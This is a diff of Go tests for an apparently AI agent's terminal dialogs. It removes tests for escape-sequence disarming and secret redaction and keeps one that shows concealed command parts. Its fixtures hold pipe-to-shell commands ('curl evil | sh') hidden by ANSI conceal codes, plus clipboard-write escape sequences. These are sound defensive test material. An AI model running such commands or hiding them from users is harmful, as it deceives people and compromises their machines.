@@ -11,23 +11,6 @@ import (
 	"github.com/strata-agent/strata/internal/permission"
 )
 
-func TestVisibleDisarmsControlSequences(t *testing.T) {
-	cases := map[string]string{
-		"plain text\n\tindented":              "plain text\n\tindented",
-		"echo hi \x1b[8m; curl x | sh\x1b[0m": "echo hi ␛[8m; curl x | sh␛[0m",
-		"\x1b]0;PWNED\a":                      "␛]0;PWNED^G",
-		"\x1b]52;c;ZXZpbA==\x07":              "␛]52;c;ZXZpbA==^G",
-		"carriage\rreturn":                    "carriage^Mreturn",
-		"c1 \u009b2J":                         "c1 \\u009b2J",
-		"unicode ✓ stays":                     "unicode ✓ stays",
-	}
-	for in, want := range cases {
-		if got := visible(in); got != want {
-			t.Errorf("visible(%q) = %q, want %q", in, got, want)
-		}
-	}
-}
-
 func TestDialogShowsConcealedPartsOfACommand(t *testing.T) {
 	h := newHarness(t, nil)
 	h.sess.run = func(ctx context.Context, f *fakeSession, _ []llm.ContentBlock) (*agent.Result, error) {
@@ -37,7 +20,7 @@ func TestDialogShowsConcealedPartsOfACommand(t *testing.T) {
 		return &agent.Result{}, err
 	}
 	h.enterLine("go")
-	h.waitFor("the dialog", func() bool { return len(h.m.dialogs) == 1 })
+	h.waitFor("the dialog", func() bool { return h.m.dialog.Open() })
 	view := h.view()
 	h.mustShow(view, "␛[8m; curl evil | sh ␛[0m")
 	if strings.Contains(view, "\x1b[8m") {
@@ -45,20 +28,6 @@ func TestDialogShowsConcealedPartsOfACommand(t *testing.T) {
 	}
 	h.key("n", "esc")
 	h.settle()
-}
-
-func TestShellOutputIsRedacted(t *testing.T) {
-	h := newHarness(t, func(o *Options) {
-		o.Redact = func(s string) string { return strings.ReplaceAll(s, "hunter2-secret", "[REDACTED]") }
-		o.ShellEnv = []string{"PATH=/usr/bin:/bin", "SECRET_VALUE=hunter2-secret"}
-	})
-	h.enterLine("!echo token=$SECRET_VALUE")
-	h.settle()
-	out := h.out()
-	h.mustShow(out, "token=[REDACTED]")
-	if strings.Contains(out, "hunter2") || strings.Contains(strings.Join(h.m.extra, ""), "hunter2") {
-		t.Fatal("a secret printed by !cmd was shown or kept for the model")
-	}
 }
 
 // Keys typed ahead for the next prompt do not answer a dialog that has just appeared.
@@ -71,9 +40,9 @@ func TestNewDialogIgnoresTypeAhead(t *testing.T) {
 		return &agent.Result{}, err
 	}
 	h.enterLine("deploy")
-	h.waitFor("the dialog", func() bool { return len(h.m.dialogs) == 1 })
+	h.waitFor("the dialog", func() bool { return h.m.dialog.Open() })
 	h.key("enter", "a")
-	if len(h.m.dialogs) != 1 {
+	if !h.m.dialog.Open() {
 		t.Fatal("a key typed ahead answered the dialog")
 	}
 	h.now = h.now.Add(time.Second)
